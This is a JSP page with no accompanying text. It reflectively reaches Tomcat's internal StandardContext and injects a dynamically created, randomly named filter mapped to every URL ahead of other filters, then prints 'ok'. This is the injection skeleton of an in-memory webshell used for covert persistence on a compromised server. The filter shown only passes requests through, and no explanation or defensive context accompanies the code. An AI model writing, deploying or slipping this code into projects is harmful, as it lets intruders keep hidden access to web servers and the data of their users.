<%@ page import="java.lang.reflect.Field,org.apache.catalina.core.StandardContext,org.apache.catalina.core.ApplicationContext" %>
<%@ page import="org.apache.tomcat.util.descriptor.web.FilterDef,org.apache.tomcat.util.descriptor.web.FilterMap" %>
<%
  ServletContext sc = request.getSession().getServletContext();
  Field f = sc.getClass().getDeclaredField("context");
  f.setAccessible(true);
  ApplicationContext ac = (ApplicationContext) f.get(sc);
  Field g = ac.getClass().getDeclaredField("context");
  g.setAccessible(true);
  StandardContext ctx = (StandardContext) g.get(ac);
  Filter flt = new Filter() {
    public void init(FilterConfig c) {}
    public void destroy() {}
    public void doFilter(ServletRequest rq, ServletResponse rs, FilterChain ch) throws java.io.IOException, ServletException {
      ch.doFilter(rq, rs);
    }
  };
  FilterDef def = new FilterDef();
  def.setFilterName("f" + System.nanoTime());
  def.setFilter(flt);
  def.setFilterClass(flt.getClass().getName());
  ctx.addFilterDef(def);
  FilterMap map = new FilterMap();
  map.setFilterName(def.getFilterName());
  map.addURLPattern("/*");
  ctx.addFilterMapBefore(map);
  out.print("ok");
%>
